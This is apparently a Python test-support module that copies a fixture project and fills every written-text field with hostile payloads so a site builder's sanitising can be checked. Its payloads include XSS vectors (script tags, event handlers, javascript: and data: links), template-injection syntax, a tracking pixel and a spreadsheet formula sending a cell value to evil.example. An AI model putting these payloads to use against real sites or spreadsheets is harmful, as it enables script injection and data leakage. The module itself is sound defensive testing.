"""Hostile projects made from the content model: a payload in every field an officer writes.

tests/fixtures/hostile/ holds one of every kind of block. :func:`hostile_project` copies it and
puts a payload into every field the model marks as written text (``model.Written``), adding the
field where the fixture leaves it out, so a field declared tomorrow is covered without anyone
remembering to add it here. :func:`unfilled_fields` names any written field the fixture has no
block for: add such a block to the fixture (a test fails until then).
"""

from __future__ import annotations

import re
import shutil
import typing
from pathlib import Path

import yaml
from pydantic import BaseModel
from pydantic.fields import FieldInfo

from strategies.content import model

from support import FIXTURES

# Each payload would set window.__pwned if it ran, or make a spreadsheet run a formula; the text
# also carries Markdown's attribute lists, javascript: and data: links, and template syntax.
FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"Click")'
TEXT = (
    f'{FORMULA} <script>window.__pwned="script"</script><video src=x onerror=window.__pwned="video"></video> '
    '[js](javascript:window.__pwned="js") [data](data:text/html,<script>window.__pwned=1</script>) '
    '{{ 7*7 }} {% raw %} {: tabindex=0 autofocus=autofocus onfocus=window.__pwned="attr" }'
)
MARKDOWN = f"""{FORMULA}

A paragraph {{: onclick=window.__pwned="block-attr" }}

## A heading {{: tabindex=0 autofocus=autofocus onfocus=window.__pwned="heading-attr" }}

[javascript link](javascript:window.__pwned="js") and [data link](data:text/html,<script>window.__pwned=1</script>)

<a href="javascript:window.__pwned=2" onmouseover="window.__pwned=3">raw link</a>

<video src=x onerror="window.__pwned='video'"></video><svg onload="window.__pwned='svg'"><circle r="1"/></svg>

<details open ontoggle="window.__pwned='toggle'"><summary>s</summary></details><input autofocus onfocus="window.__pwned='input'">

<script>window.__pwned="script"</script><iframe src="javascript:window.__pwned=4"></iframe>

<div style="position:fixed;top:0;left:0;width:100%;height:100%">overlay</div>

{{{{ 7 * 7 }}}} {{% raw %}}
"""
# A strategy's own image (tests/fixtures/hostile has it) with a handler: organisations and the
# site settings have no images folder, so their text may not have images at all.
OWN_IMAGE = """\n<img src="images/pixel.png" alt="A pixel" onerror="window.__pwned='img'">\n"""
SHORT_TEXT = '=1+1 <script>window.__pwned="short"</script> {: autofocus onfocus=window.__pwned="attr" }'
TRACKER = "![Tracker](https://tracker.example/pixel.png)"

FILES = {  # which model each content file holds
    "site.yaml": model.SiteSettings,
    "organisations/*.yaml": model.Organisation,
    "*/strategy.yaml": model.Strategy,
    "*/progress/*.yaml": model.ProgressReport,
    "*/revisions/*/revision.yaml": model.Revision,
    "*/revisions/*/strategy.yaml": model.Strategy,
}
_FRONT_MATTER = re.compile(r"\A---\n(.*?)\n---\n", re.S)


def written(annotation, metadata=()) -> model.Written | None:
    """The Written marker of a field (its annotation, or inside Optional/list/Annotated), if any."""
    for item in metadata:
        if isinstance(item, model.Written):
            return item
        if isinstance(item, FieldInfo) and (found := written(None, item.metadata)):
            return found
    if typing.get_origin(annotation) is typing.Annotated:
        base, *extra = typing.get_args(annotation)
        return written(None, extra) or written(base)
    for argument in typing.get_args(annotation):
        if found := written(argument):
            return found
    return None


def _blocks_in(annotation) -> list[type[BaseModel]]:
    """The block types a field holds (itself, or inside Optional, list or dict)."""
    if isinstance(annotation, type) and issubclass(annotation, BaseModel):
        return [annotation]
    return [block for argument in typing.get_args(annotation) for block in _blocks_in(argument)]


def written_fields(root: type[BaseModel], seen: set | None = None) -> set[tuple[str, str]]:
    """Every (block, field) of written text reachable from ``root``."""
    seen = set() if seen is None else seen
    if root in seen:
        return set()
    seen.add(root)
    found = set()
    for name, info in root.model_fields.items():
        if written(info.annotation, info.metadata):
            found.add((root.__name__, name))
        for block in _blocks_in(info.annotation):
            found |= written_fields(block, seen)
    return found


def _origin(annotation):
    """list or dict for a field holding several values (Optional or not), else None."""
    for candidate in (annotation, *typing.get_args(annotation)):
        if typing.get_origin(candidate) in (list, dict):
            return typing.get_origin(candidate)
    return None


def _fill(data, block: type[BaseModel], payload: dict, filled: set) -> None:
    if not isinstance(data, dict):
        return
    for name, info in block.model_fields.items():
        key = info.alias or name
        mark = written(info.annotation, info.metadata)
        if mark:
            value = payload["markdown" if mark.markdown else "text"]
            limit = next((m.max_length for m in info.metadata if hasattr(m, "max_length")), None)
            if limit is not None and len(value) > limit:
                value = SHORT_TEXT[:limit]
            if _origin(info.annotation) is list:
                data[key] = [value] * max(1, len(data.get(key) or []))
            else:
                data[key] = value
            filled.add((block.__name__, name))
            continue
        inner, value = _blocks_in(info.annotation), data.get(key)
        if not inner or value is None:
            continue
        items = value.values() if _origin(info.annotation) is dict else value if isinstance(value, list) else [value]
        for item in items:
            _fill(item, inner[0], payload, filled)


def hostile_project(folder: Path, text: str = TEXT, markdown: str = MARKDOWN) -> tuple[Path, set]:
    """A copy of tests/fixtures/hostile with ``text`` and ``markdown`` in every written field
    (and every narrative page's body); returns the project and the (block, field) pairs filled."""
    shutil.copytree(FIXTURES / "hostile", folder, dirs_exist_ok=True)
    content = folder / "content"
    payload, filled = {"text": text, "markdown": markdown}, set()
    with_image = {"text": text, "markdown": markdown + OWN_IMAGE if markdown == MARKDOWN else markdown}
    for pattern, block in FILES.items():
        for path in sorted(content.glob(pattern)):
            data = yaml.safe_load(path.read_text(encoding="utf-8"))
            _fill(data, block, payload if block in (model.Organisation, model.SiteSettings) else with_image, filled)
            path.write_text(yaml.safe_dump(data, allow_unicode=True, sort_keys=False), encoding="utf-8")
    for path in sorted(content.glob("**/pages/*.md")):
        meta = yaml.safe_load(_FRONT_MATTER.match(path.read_text(encoding="utf-8")).group(1))
        _fill(meta, model.PageMeta, payload, filled)
        path.write_text(
            f"---\n{yaml.safe_dump(meta, allow_unicode=True, sort_keys=False)}---\n\n{with_image['markdown']}\n",
            encoding="utf-8",
        )
    return folder, filled


def unfilled_fields(filled: set) -> set[tuple[str, str]]:
    """Written fields of the model that the hostile fixture has no block to carry."""
    every = set()
    for block in (*set(FILES.values()), model.PageMeta):
        every |= written_fields(block)
    return every - filled
